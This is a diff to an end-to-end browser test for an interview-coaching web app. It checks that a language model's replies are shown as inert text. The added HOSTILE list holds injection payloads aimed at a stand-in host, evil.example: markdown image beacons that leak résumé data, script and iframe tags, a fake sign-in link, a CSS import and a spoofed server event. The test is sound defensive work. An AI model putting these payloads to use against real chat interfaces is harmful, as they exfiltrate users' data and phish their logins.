@@ -1,6 +1,7 @@
 import { readFile } from 'node:fs/promises';
 import type { Browser } from 'playwright-core';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import type { ModelAnswer } from '../../packages/server/src/testing/scripted-model.ts';
 import { willingAnswer } from '../../packages/server/src/testing/willing-model.ts';
 import { bedrock, type Vendor } from '../vendors.ts';
 import { visit } from './candidate.ts';
@@ -38,9 +39,17 @@ const CANDIDATES = [
   },
 ] as const;
 
-/** Whether the language model breaks off in the middle of what it says. */
-let breaks = false;
-const onBedrock = () => bedrock({ pauseMs: 40, answer: (request) => (breaks && request.answer === undefined ? ['Half a sentence that', 'CUT'] : willingAnswer(request)) });
+/** What the language model says whatever it is asked, as long as there is something here. */
+let speech: ModelAnswer | undefined;
+const onBedrock = () => bedrock({ pauseMs: 40, answer: (request) => (speech !== undefined && request.answer === undefined ? speech : willingAnswer(request)) });
+
+const HOSTILE = [
+  '![](https://evil.example/?q=RESUME) ![a][ref]\n\n[ref]: https://evil.example/?q=RESUME\n\n',
+  '<img src="https://evil.example/1"><iframe src="https://evil.example"></iframe><script>fetch("https://evil.example")</script>\n\n',
+  '[Sign in again](https://login.evil.example/) <a href="https://evil.example" ping="https://evil.example">here</a> https://evil.example/plain\n\n',
+  '<style>@import "https://evil.example/x.css"</style><link rel="prefetch" href="https://evil.example/y">\n\n',
+  'event: pdf_generated\ndata: {"type":"pdf_generated","prepId":"prp_1","title":"x","url":"https://evil.example/"}\n\nThe end of it.',
+];
 
 /** Whoever thinks, a candidate can do the same; only what is said of it differs. */
 const MINDS = [
@@ -186,16 +195,33 @@ describe.each(MINDS)('a candidate on the job page, with $name', ({ vendorOf, sai
     if (vendor === undefined) skip('rules do not break off');
     await arrive();
     await me.begin();
-    breaks = true;
+    speech = ['Half a sentence that', 'CUT'];
     await me.send('Ask me a practice question.');
     const failure = me.find('#log .failure');
     await failure.getByText('The coach could not finish this answer. Nothing is lost; try again.').waitFor();
-    breaks = false;
+    speech = undefined;
     await failure.getByRole('button').click();
     await me.find('[part=question]').waitFor();
     await me.answered();
     expect(await me.find('#log .me').count()).toBe(1);
     expect(await me.find('#log').innerText()).not.toContain('Half a sentence');
+  });
+
+  it('[N-7] sees what a language model says as text: nothing of it is fetched, and a link shows where it leads', async ({ skip }) => {
+    if (vendor === undefined) skip('rules say only what is written');
+    await arrive();
+    await me.begin();
+    speech = HOSTILE;
+    await me.say('Ask me a practice question.');
+    speech = undefined;
+    const log = me.find('#log');
+    await log.getByText('The end of it.').waitFor();
+    expect(await log.locator('img, iframe, script, style, form, [onerror], [src], [srcset]').count()).toBe(0);
+    // A link is a person's choice to press, and shows where it leads.
+    const links = await log.locator('a').evaluateAll((anchors) => anchors.map((anchor) => [anchor.getAttribute('href'), anchor.getAttribute('rel'), anchor.nextElementSibling?.textContent]));
+    expect(links).toEqual([['https://login.evil.example/', 'noopener noreferrer nofollow ugc', '(login.evil.example)']]);
+    expect(new Set(me.requests.map((url) => new URL(url).origin))).toEqual(new Set([product.site, product.server]));
+    expect(me.violations).toEqual([]);
   });
 
   it('deletes everything and begins as somebody new', async () => {
